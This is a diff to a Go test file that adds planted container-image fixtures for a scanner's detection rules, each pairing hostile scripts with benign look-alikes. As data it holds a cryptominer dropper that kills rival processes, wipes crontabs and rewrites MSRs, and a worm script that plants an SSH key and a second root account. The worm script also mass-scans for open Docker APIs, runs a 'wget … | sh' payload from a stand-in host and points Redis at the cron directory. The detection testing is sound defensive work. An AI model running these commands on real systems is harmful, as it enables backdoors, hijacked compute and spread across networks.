@@ -369,7 +369,39 @@ func techniqueImages(t testing.TB, base v1.Layer) []plantedImage {
 			"ufw enable\nsetenforce 1\nsystemctl stop nginx\n"},
 		ent{name: "usr/share/doc/agent/README", body: "Intruders run chattr +i /root/.ssh/authorized_keys and echo > /var/log/wtmp\n"}),
 		hit{rule: "script-impairs-defences", path: "/opt/agent/clean.sh", layer: 1},
-		hit{rule: "script-impairs-defences", path: "/srv/init/prep", layer: 1})
+		hit{rule: "script-impairs-defences", path: "/srv/init/prep", layer: 1},
+		hit{rule: "script-plants-access", path: "/opt/agent/clean.sh", layer: 1})
+
+	// A miner's dropper clearing the host: rivals killed by CPU share and by
+	// name, crontabs removed, MSRs rewritten and huge pages reserved; an
+	// application's restart script killing its own workers, by name and by
+	// port, removing exited containers, reserving DPDK's 2 MiB pages and
+	// reading an MSR is not.
+	add("test/t-rivals", nil, nil, one(
+		ent{name: "usr/local/lib/sysupd/clean.sh", mode: 0o755, body: "#!/bin/sh\nps aux | awk '{if($3>40.0) print $2}' | xargs -I % kill -9 %\npkill -f xmrig\ncrontab -r\n"},
+		ent{name: "opt/agent/boost.sh", mode: 0o755, body: "#!/bin/sh\nmodprobe msr allow_writes=on\nwrmsr -a 0xc0011020 0x0\nsysctl -w vm.nr_hugepages=$(nproc)\n"},
+		ent{name: "srv/app/restart.sh", mode: 0o755, body: "#!/bin/sh\npkill -f gunicorn\nps aux | grep celery | awk '{print $2}' | xargs kill -TERM\n" +
+			"netstat -tlnp | grep :8080 | awk '{print $7}' | cut -d/ -f1 | xargs kill\ndocker ps -a | grep Exited | awk '{print $1}' | xargs docker rm\n" +
+			"crontab -l\necho 1024 > /sys/kernel/mm/hugepages/hugepages-2048kB/nr_hugepages\nsysctl vm.swappiness=10\nrdmsr 0x1a4\n"}),
+		hit{rule: "script-kills-rivals", path: "/usr/local/lib/sysupd/clean.sh", layer: 1},
+		hit{rule: "script-tunes-cpu-for-mining", path: "/opt/agent/boost.sh", layer: 1})
+
+	// A worm's scripts: a literal key and a second uid 0 planted at run time,
+	// Docker APIs scanned for and used, Redis told to write into cron; an
+	// entrypoint installing the deployment's key, adding its own account,
+	// scanning localhost's web ports, talking to the local Docker socket,
+	// tuning Redis and deploying over ssh is not.
+	add("test/t-worm", nil, nil, one(
+		ent{name: "opt/agent/keys.sh", mode: 0o755, body: "#!/bin/sh\nmkdir -p /root/.ssh\necho \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7x9 root@x\" >> /root/.ssh/authorized_keys\n" +
+			"useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysadm\n"},
+		ent{name: "opt/agent/spread.sh", mode: 0o755, body: "#!/bin/bash\nmasscan 172.16.0.0/12 -p2375 --rate=10000 | awk '{print $6}' > /tmp/h\n" +
+			"for h in $(cat /tmp/h); do docker -H tcp://$h:2375 run -d alpine sh -c 'wget -qO- http://x/i.sh|sh'; done\n" +
+			"redis-cli -h $h config set dir /var/spool/cron/\n"},
+		ent{name: "srv/app/entry.sh", mode: 0o755, body: "#!/bin/sh\necho \"$SSH_PUBKEY\" >> /home/app/.ssh/authorized_keys\nuseradd -u 1000 -m app\n" +
+			"echo 'app:x:1000:1000::/home/app:/bin/sh' >> /etc/passwd\nnmap -p 80,443 localhost\ndocker -H unix:///var/run/docker.sock ps\n" +
+			"redis-cli -h redis config set maxmemory 100mb\nssh -o StrictHostKeyChecking=no deploy@build 'systemctl restart app'\n"}),
+		hit{rule: "script-plants-access", path: "/opt/agent/keys.sh", layer: 1},
+		hit{rule: "script-spreads-to-other-hosts", path: "/opt/agent/spread.sh", layer: 1})
 
 	// Reverse shells in a script and a unit's helper; a health check
 	// opening /dev/tcp, wait-for-it's probe, nc listening for a test and
